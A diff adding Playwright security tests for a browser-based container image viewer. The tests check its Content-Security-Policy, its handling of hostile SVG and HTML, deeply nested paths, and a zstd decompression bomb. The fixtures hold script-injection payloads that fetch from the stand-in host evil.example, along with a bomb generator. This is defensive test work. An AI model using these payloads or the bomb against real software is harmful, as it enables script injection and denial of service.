@@ -1,0 +1,169 @@
+/**
+ * Hostile archives in Chromium: the built page's Content-Security-Policy holds (no eval, no inline
+ * script, nothing fetched from elsewhere), an SVG from an image runs no script and loads nothing,
+ * and the fuzzer's worst cases (a path 10,000 deep, a zstd bomb) open without freezing the tab.
+ */
+import { createHash } from 'node:crypto';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, test, type Page } from '@playwright/test';
+import { buildDockerArchive } from '../src/core/testing/image-builder';
+import { buildTar, type BuildEntry } from '../src/core/testing/tar-builder';
+import { openImage } from './helpers';
+
+const dir = mkdtempSync(join(tmpdir(), 'strata-e2e-hostile-'));
+const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');
+
+function archive(name: string, layers: Uint8Array[]): string {
+  const path = join(dir, name);
+  writeFileSync(path, buildDockerArchive(layers, sha));
+  return path;
+}
+
+const tar = (entries: BuildEntry[]): Uint8Array => buildTar(entries);
+
+/** Every request and CSP violation of the page, and the longest main-thread task. */
+async function watch(page: Page, origin: string): Promise<{ foreign: string[] }> {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:')) foreign.push(url);
+  });
+  await page.addInitScript(() => {
+    const w = window as unknown as { violations: string[]; longestTask: number };
+    w.violations = [];
+    w.longestTask = 0;
+    document.addEventListener('securitypolicyviolation', (e) => {
+      w.violations.push(`${e.violatedDirective} ${e.blockedURI}`);
+    });
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) w.longestTask = Math.max(w.longestTask, entry.duration);
+    }).observe({ type: 'longtask', buffered: true });
+  });
+  return { foreign };
+}
+
+const violations = (page: Page): Promise<string[]> =>
+  page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+const longestTask = (page: Page): Promise<number> =>
+  page.evaluate(() => (window as unknown as { longestTask: number }).longestTask);
+
+test('the built page forbids eval and inline script, and the app runs within its policy', async ({
+  page,
+  baseURL,
+}) => {
+  const { foreign } = await watch(page, baseURL!);
+  await page.goto('/');
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
+  expect(await page.evaluate(() => document.querySelectorAll('script:not([src])').length)).toBe(0);
+  // A script element added with inline text does not run (DevTools' own evaluation is exempt from
+  // the policy, so eval is tested through a script the page would run).
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.inlineRan = eval("1 + 1")';
+    document.head.append(script);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return (window as unknown as { inlineRan?: number }).inlineRan;
+  });
+  expect(ran).toBeUndefined();
+  // Reported once per policy: the page's meta tag and the server's header.
+  const injected = await violations(page);
+  expect(injected.length).toBeGreaterThan(0);
+  expect(new Set(injected)).toEqual(new Set(['script-src-elem inline']));
+  await page.getByRole('button', { name: 'Open the sample' }).click();
+  await expect(page.locator('body')).toHaveAttribute('data-app-state', 'ready', { timeout: 60_000 });
+  await page.getByRole('tab', { name: 'Files' }).click();
+  await expect(page.getByRole('tree', { name: 'Files' })).toBeVisible();
+  await page.getByRole('tab', { name: 'Packages' }).click();
+  await expect(page.getByRole('region', { name: 'Packages' })).toContainText('49 dpkg packages', {
+    timeout: 60_000,
+  });
+  await page.getByRole('tab', { name: 'Linkage' }).click();
+  await expect(page.getByTestId('graph-canvas')).toBeVisible({ timeout: 60_000 });
+  // The injected script's violations are the only ones.
+  expect(await violations(page)).toEqual(injected);
+  expect(foreign).toEqual([]);
+});
+
+test('an SVG from an image is shown as a picture that runs no script and loads nothing', async ({
+  page,
+  baseURL,
+}) => {
+  const { foreign } = await watch(page, baseURL!);
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">
+<script>top.pwned = 1; fetch('http://evil.example/script')</script>
+<image href="http://evil.example/picture.png" width="10" height="10"/>
+<rect width="40" height="40" fill="red" onload="top.pwned = 2"/></svg>`;
+  const path = archive('svg.tar', [
+    tar([
+      { name: 'evil.svg', data: svg },
+      { name: 'evil.html', data: `<script>top.pwned=3</script>` },
+    ]),
+  ]);
+  await page.goto('/');
+  await openImage(page, path);
+  await page.getByRole('tab', { name: 'Files' }).click();
+  await page.getByLabel('Search paths').fill('evil.svg');
+  await page
+    .getByRole('list', { name: 'Search results' })
+    .getByRole('button', { name: /evil\.svg/ })
+    .click();
+  const picture = page.getByLabel('File contents').locator('img');
+  await expect(picture).toBeVisible();
+  expect(await picture.getAttribute('src')).toMatch(/^blob:/);
+  await page.getByLabel('Search paths').fill('evil.html');
+  await page
+    .getByRole('list', { name: 'Search results' })
+    .getByRole('button', { name: /evil\.html/ })
+    .click();
+  await expect(page.getByLabel('File contents')).toContainText('<script>top.pwned=3</script>');
+  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+  expect(foreign).toEqual([]);
+});
+
+test('a path nested 10,000 directories deep opens, and the tab never freezes', async ({ page, baseURL }) => {
+  await watch(page, baseURL!);
+  const deep = `${Array.from({ length: 10_000 }, () => 'd').join('/')}/f`;
+  const path = archive('deep.tar', [
+    tar([
+      { name: 'x', data: 'deep', pax: { path: deep } },
+      { name: 'top', data: 'top' },
+    ]),
+  ]);
+  await page.goto('/');
+  await openImage(page, path);
+  await page.getByRole('tab', { name: 'Files' }).click();
+  const tree = page.getByRole('tree', { name: 'Files' });
+  await expect(tree.locator('[role=treeitem][data-path="/d"]')).toBeVisible();
+  await tree.locator('[role=treeitem][data-path="/d"]').click();
+  await expect(tree.locator('[role=treeitem][data-path="/d/d"]')).toBeVisible();
+  expect(await longestTask(page)).toBeLessThan(200);
+});
+
+/** One zstd frame of RLE blocks of zeros: 4 bytes of input per 128 KiB decoded. */
+function zstdZeros(blocks: number): Uint8Array {
+  const out = [0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38];
+  for (let i = 0; i < blocks; i++) {
+    const header = ((128 * 1024) << 3) | (1 << 1) | (i === blocks - 1 ? 1 : 0);
+    out.push(header & 0xff, (header >> 8) & 0xff, (header >> 16) & 0xff, 0);
+  }
+  return Uint8Array.from(out);
+}
+
+test('a zstd bomb is stopped with a sentence; the other layer stays usable', async ({ page, baseURL }) => {
+  await watch(page, baseURL!);
+  // 2 GiB of zeros from 64 KiB: past the 5,000:1 limit once 1 GiB is decoded.
+  const path = archive('bomb.tar', [tar([{ name: 'ok.txt', data: 'fine' }]), zstdZeros(16_384)]);
+  await page.goto('/');
+  await openImage(page, path);
+  const bombRow = page.getByRole('row', { name: /^L1 / });
+  await expect(bombRow).toContainText('failed', { timeout: 120_000 });
+  await bombRow.click();
+  await expect(page.getByText(/a decompression bomb, not read further/)).toBeVisible();
+  await page.getByRole('tab', { name: 'Files' }).click();
+  await page.getByRole('navigation', { name: 'Layer' }).getByRole('button', { name: /^L0/ }).click();
+  await expect(page.getByRole('tree', { name: 'Files' }).locator('[data-path="/ok.txt"]')).toBeVisible();
+  expect(await longestTask(page)).toBeLessThan(200);
+});
